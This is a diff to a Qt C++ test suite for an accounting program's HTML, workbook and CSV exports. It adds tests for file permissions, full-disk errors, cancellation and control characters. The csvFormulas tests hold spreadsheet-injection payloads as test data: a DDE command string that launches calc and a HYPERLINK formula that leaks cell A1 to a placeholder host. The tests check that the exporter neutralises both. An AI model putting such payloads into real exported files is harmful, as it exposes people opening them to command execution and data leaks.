@@ -8,6 +8,11 @@
 #include <QXmlStreamReader>
 #include <QtTest>
 
+#include <cerrno>
+#include <csignal>
+#include <sys/resource.h>
+#include <sys/stat.h>
+
 // The three exports without a window: pages from template text into a
 // buffer, workbooks unpacked with unzip and read back cell by cell, CSV byte
 // for byte, and the atomic replacement of an existing file.
@@ -30,10 +35,20 @@ private slots:
     void xlsxLayout();
     void csvBytes_data();
     void csvBytes();
+    void csvFormulas_data();
+    void csvFormulas();
+    void controlCharsVisible_data();
+    void controlCharsVisible();
     void saveReplacesWhole_data();
     void saveReplacesWhole();
     void saveFailsCleanly_data();
     void saveFailsCleanly();
+    void saveFollowsUmask_data();
+    void saveFollowsUmask();
+    void saveOnFullDisk_data();
+    void saveOnFullDisk();
+    void progressAndCancel_data();
+    void progressAndCancel();
 };
 
 namespace {
@@ -461,8 +476,8 @@ void TestExports::xlsxCells_data()
                            "E3|s|O'Brien, <b>&|General", "A4|n|40635|yyyy-mm-dd", "B4|s|x|General",
                            "D4|n|0.01|0.00", "E4|s|   |General", "A5|n|40635|yyyy-mm-dd",
                            "B5|s|y|General", "D5|n|0.02|0.00",
-                           // control characters in the form spreadsheet programs read back
-                           "E5|s|a\tb_x000D_\nc_x0001_d|General"} +
+                           // tab and line breaks kept, other control characters visible
+                           QStringLiteral("E5|s|a\tb_x000D_\nc\u2401d|General")} +
                totals(6);
     QTest::addRow("no rows: header and totals")
         << false << TRowList{} << header(TExportKind::Trans) + totals(2);
@@ -527,30 +542,24 @@ void TestExports::csvBytes_data()
     QTest::addColumn<TRowList>("rows");
     QTest::addColumn<QByteArray>("bytes");
     const QByteArray bom("\xEF\xBB\xBF");
-    const QByteArray tail = QStringLiteral(",Li (2011-04-01 至 2011-04-30),,,\r\n"
-                                           ",收入合计：100.00,,,\r\n"
-                                           ",支出合计：30.00,,,\r\n"
-                                           ",结余合计：70.00,,,\r\n")
-                                .toUtf8();
+    // The table only: no title or total lines among the rows.
     QTest::addRow("ranking") << true
                              << TRowList{rank(In, QStringLiteral("工资"), "1", "100.00", "100.00%"),
                                          rank(Out, "a,b", "12", "1234567.50", "2.50%")}
-                             << bom +
-                                    QStringLiteral("类别,项目,数量,收入,支出,比例\r\n"
-                                                   "收入,工资,1,100.00,,100.00%\r\n"
-                                                   "支出,\"a,b\",12,,1234567.50,2.50%\r\n")
-                                        .toUtf8() +
-                                    QByteArray(tail).replace(",,,\r\n", ",,,,\r\n");
+                             << bom + QStringLiteral("类别,项目,数量,收入,支出,比例\r\n"
+                                                     "收入,工资,1,100.00,,100.00%\r\n"
+                                                     "支出,\"a,b\",12,,1234567.50,2.50%\r\n")
+                                          .toUtf8();
     QTest::addRow("records with quotes and line breaks")
         << false
         << TRowList{rec("2011-04-01", Out, "say \"hi\"", "12.50", "line1\r\nline2"),
                     rec("2011-04-02", In, "O'Brien", "5000.00", "  ")}
-        << bom +
-               QStringLiteral("日期,项目,收入,支出,备注\r\n"
-                              "2011-04-01,\"say \"\"hi\"\"\",,12.50,\"line1\r\nline2\"\r\n"
-                              "2011-04-02,O'Brien,5000.00,,  \r\n")
-                   .toUtf8() +
-               tail;
+        << bom + QStringLiteral("日期,项目,收入,支出,备注\r\n"
+                                "2011-04-01,\"say \"\"hi\"\"\",,12.50,\"line1\r\nline2\"\r\n"
+                                "2011-04-02,O'Brien,5000.00,,  \r\n")
+                     .toUtf8();
+    QTest::addRow("no rows: the header alone")
+        << false << TRowList{} << bom + QStringLiteral("日期,项目,收入,支出,备注\r\n").toUtf8();
 }
 
 void TestExports::csvBytes()
@@ -566,6 +575,101 @@ void TestExports::csvBytes()
     QCOMPARE(out.data(), bytes);
 }
 
+void TestExports::csvFormulas_data()
+{
+    QTest::addColumn<QString>("cate");
+    QTest::addColumn<QString>("amount"); // as entered; negative only from old data
+    QTest::addColumn<QString>("notes");
+    QTest::addColumn<QString>("line"); // the record's line as written
+    QTest::addRow("sum formula") << "=1+2"
+                                 << "1.00"
+                                 << ""
+                                 << "2011-04-01,'=1+2,,1.00,";
+    QTest::addRow("link that leaks cells")
+        << "x"
+        << "1.00"
+        << "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"看\")"
+        << "2011-04-01,x,,1.00,\"'=HYPERLINK(\"\"http://example.invalid/"
+           "?leak=\"\"&A1,\"\"看\"\")\"";
+    QTest::addRow("plus") << "+1"
+                          << "1.00"
+                          << "@SUM(A1)"
+                          << "2011-04-01,'+1,,1.00,'@SUM(A1)";
+    QTest::addRow("minus") << "-cmd"
+                           << "1.00"
+                           << ""
+                           << "2011-04-01,'-cmd,,1.00,";
+    QTest::addRow("tab and carriage return") << "\tx"
+                                             << "1.00"
+                                             << "\rx"
+                                             << "2011-04-01,'\tx,,1.00,\"'\rx\"";
+    QTest::addRow("inside the text is harmless") << "a=b"
+                                                 << "1.00"
+                                                 << "1+1"
+                                                 << "2011-04-01,a=b,,1.00,1+1";
+    // An amount is a number of ours, never a text: a minus sign on one is a
+    // sign, and an apostrophe would turn the number into text.
+    QTest::addRow("negative amount stays a number") << "退款"
+                                                    << "-12.50"
+                                                    << ""
+                                                    << "2011-04-01,退款,,-12.50,";
+}
+
+void TestExports::csvFormulas()
+{
+    QFETCH(QString, cate);
+    QFETCH(QString, amount);
+    QFETCH(QString, notes);
+    QFETCH(QString, line);
+    const TRowList rows{rec("2011-04-01", Out, cate, amount.toLatin1().constData(), notes)};
+    const TRecordList recs = records(rows);
+    QBuffer out;
+    out.open(QIODevice::WriteOnly);
+    // A user name that is a formula: the title no longer goes into the table.
+    TCsvExport::Write(out, exportData(TExportKind::Trans, rows, &recs, "=cmd|' /C calc'!A0"));
+    const QByteArray expected = "\xEF\xBB\xBF" +
+                                QStringLiteral("日期,项目,收入,支出,备注\r\n").toUtf8() +
+                                line.toUtf8() + "\r\n";
+    QCOMPARE(out.data(), expected);
+}
+
+void TestExports::controlCharsVisible_data()
+{
+    QTest::addColumn<QString>("format");
+    QTest::addRow("web page") << "html";
+    QTest::addRow("workbook") << "xlsx";
+    QTest::addRow("csv") << "csv";
+}
+
+static void save(const QString &format, const QString &file, const TExportData &data,
+                 const TProgress &progress = {});
+static QString exported(const QString &format, const QString &file);
+
+void TestExports::controlCharsVisible()
+{
+    QFETCH(QString, format);
+    const QString nul(QChar(0));
+    const TRowList rows{
+        rec("2011-04-01", Out, "a" + nul + "b", "1.00", QStringLiteral("x\x01y\x1Fz\x7F\u0085!")),
+        rec("2011-04-02", In, QStringLiteral("工资"), "2.00", "after")};
+    const TRecordList recs = records(rows);
+    QTemporaryDir dir;
+    const QString file = dir.filePath("out." + format);
+    save(format, file, exportData(TExportKind::Trans, rows, &recs));
+    const QString text = exported(format, file);
+    // Nothing cut: the row after the odd texts is there, and the odd
+    // characters show as their symbols.
+    QVERIFY2(text.contains(QStringLiteral("a\u2400b")), qPrintable(text));
+    QVERIFY2(text.contains(QStringLiteral("x\u2401y\u241Fz\u2421\uFFFD!")), qPrintable(text));
+    QVERIFY(text.contains(QStringLiteral("工资")));
+    QVERIFY(text.contains(QStringLiteral("after")));
+    for (QChar c : text)
+        QVERIFY2(c.unicode() >= 0x20 || c == u'\t' || c == u'\n' || c == u'\r',
+                 qPrintable(QString::number(c.unicode())));
+    // The workbook never needed the library's escapes for them.
+    QVERIFY(!text.contains(QLatin1String("_x0001_")));
+}
+
 // ---------------------------------------------------------------------------
 // Writing the file
 
@@ -577,14 +681,27 @@ void TestExports::saveReplacesWhole_data()
     QTest::addRow("csv") << "csv";
 }
 
-static void save(const QString &format, const QString &file, const TExportData &data)
+static void save(const QString &format, const QString &file, const TExportData &data,
+                 const TProgress &progress)
 {
     if (format == QLatin1String("html"))
-        THtmlExport(data.Kind, "H<!-- - -->R#category<!-- - -->F", "t").Save(file, data);
+        THtmlExport(data.Kind, "H<!-- - -->R#category|#notes<!-- - -->F", "t")
+            .Save(file, data, progress);
     else if (format == QLatin1String("xlsx"))
-        TXlsxExport::Save(file, data);
+        TXlsxExport::Save(file, data, progress);
     else
-        TCsvExport::Save(file, data);
+        TCsvExport::Save(file, data, progress);
+}
+
+// The written text of any format: the page from GB18030, the workbook's
+// cells, the CSV from UTF-8.
+static QString exported(const QString &format, const QString &file)
+{
+    if (format == QLatin1String("html"))
+        return THi::FromBytes(THi::LoadFile(file));
+    if (format == QLatin1String("xlsx"))
+        return sheetCells(file).join(QLatin1Char('\n'));
+    return QString::fromUtf8(THi::LoadFile(file));
 }
 
 void TestExports::saveReplacesWhole()
@@ -626,6 +743,121 @@ void TestExports::saveFailsCleanly()
     const QString nowhere = dir.filePath("missing/x." + format);
     QVERIFY_THROWS_EXCEPTION(TError, save(format, nowhere, data));
     QVERIFY(!QFileInfo::exists(dir.filePath("missing")));
+}
+
+void TestExports::saveFollowsUmask_data()
+{
+    QTest::addColumn<QString>("format");
+    QTest::addColumn<int>("mask");
+    QTest::addColumn<int>("mode");
+    for (const char *f : {"html", "xlsx", "csv"}) {
+        QTest::addRow("%s, private umask", f) << f << 077 << 0600;
+        QTest::addRow("%s, usual umask", f) << f << 022 << 0644;
+        QTest::addRow("%s, group umask", f) << f << 002 << 0664;
+    }
+}
+
+void TestExports::saveFollowsUmask()
+{
+    QFETCH(QString, format);
+    QFETCH(int, mask);
+    QFETCH(int, mode);
+    QTemporaryDir dir;
+    const QString file = dir.filePath("out." + format);
+    const TRowList rows{rank(In, "a", "1", "1.00", "100.00%")};
+    const mode_t old = ::umask(mode_t(mask));
+    const auto back = qScopeGuard([old] { ::umask(old); });
+    save(format, file, exportData(TExportKind::Cates, rows, nullptr));
+    struct stat st {};
+    QCOMPARE(::stat(QFile::encodeName(file).constData(), &st), 0);
+    QCOMPARE(int(st.st_mode & 0777), mode);
+}
+
+void TestExports::saveOnFullDisk_data()
+{
+    saveReplacesWhole_data();
+}
+
+// A file size limit refuses writes as a full disk does, without a special
+// file system: the message names the chosen file and the system's reason.
+void TestExports::saveOnFullDisk()
+{
+    QFETCH(QString, format);
+    TRowList rows;
+    for (int i = 0; i < 300; ++i)
+        rows.append(rank(Out, QStringLiteral("类别%1").arg(i), "1", "1.00", "1.00%"));
+    const TExportData data = exportData(TExportKind::Cates, rows, nullptr);
+    QTemporaryDir dir;
+    const QString file = dir.filePath("full." + format);
+    THi::SaveFile(file, "old");
+
+    ::signal(SIGXFSZ, SIG_IGN);
+    struct rlimit old {};
+    QCOMPARE(::getrlimit(RLIMIT_FSIZE, &old), 0);
+    struct rlimit tiny = old;
+    tiny.rlim_cur = 16;
+    QCOMPARE(::setrlimit(RLIMIT_FSIZE, &tiny), 0);
+    QString message;
+    try {
+        save(format, file, data);
+    } catch (const TError &e) {
+        message = e.text();
+    }
+    ::setrlimit(RLIMIT_FSIZE, &old);
+
+    QVERIFY2(message.contains(QStringLiteral("“%1”").arg(file)), qPrintable(message));
+    QVERIFY2(message.contains(qt_error_string(EFBIG)), qPrintable(message));
+    QVERIFY2(!message.contains(QLatin1String(".partial-")), qPrintable(message));
+    QVERIFY2(!message.contains(QStringLiteral("未知错误")), qPrintable(message));
+    QCOMPARE(THi::LoadFile(file), QByteArray("old"));
+    QCOMPARE(leftovers(dir.path()), QStringList{"full." + format});
+}
+
+void TestExports::progressAndCancel_data()
+{
+    QTest::addColumn<QString>("format");
+    QTest::addColumn<int>("stopAt"); // the report that answers stop; 0: never
+    for (const char *f : {"html", "xlsx", "csv"}) {
+        QTest::addRow("%s, to the end", f) << f << 0;
+        QTest::addRow("%s, stopped at once", f) << f << 1;
+        QTest::addRow("%s, stopped at the end", f) << f << 3;
+    }
+}
+
+void TestExports::progressAndCancel()
+{
+    QFETCH(QString, format);
+    QFETCH(int, stopAt);
+    // Two reports on the way (every ProgressEvery rows) and one at the end.
+    const int count = 2 * Exports::ProgressEvery + 5;
+    TRowList rows;
+    for (int i = 0; i < count; ++i)
+        rows.append(rec("2011-04-01", Out, QStringLiteral("c%1").arg(i), "1.00"));
+    const TRecordList recs = records(rows);
+    const TExportData data = exportData(TExportKind::Trans, rows, &recs);
+    QTemporaryDir dir;
+    const QString file = dir.filePath("big." + format);
+    THi::SaveFile(file, "old");
+
+    QList<qint64> seen;
+    const TProgress progress = [&](qint64 done, qint64 total) {
+        if (total != count)
+            return false;
+        seen.append(done);
+        return seen.size() != stopAt;
+    };
+    bool cancelled = false;
+    try {
+        save(format, file, data, progress);
+    } catch (const ECancelled &) {
+        cancelled = true;
+    }
+    QCOMPARE(cancelled, stopAt != 0);
+    const QList<qint64> all{Exports::ProgressEvery, 2 * Exports::ProgressEvery, count};
+    QCOMPARE(seen, stopAt == 0 ? all : all.mid(0, stopAt));
+    // A stopped export leaves the old file and no temporary.
+    QCOMPARE(THi::LoadFile(file) == "old", cancelled);
+    QCOMPARE(leftovers(dir.path()), QStringList{"big." + format});
 }
 
 QTEST_GUILESS_MAIN(TestExports)
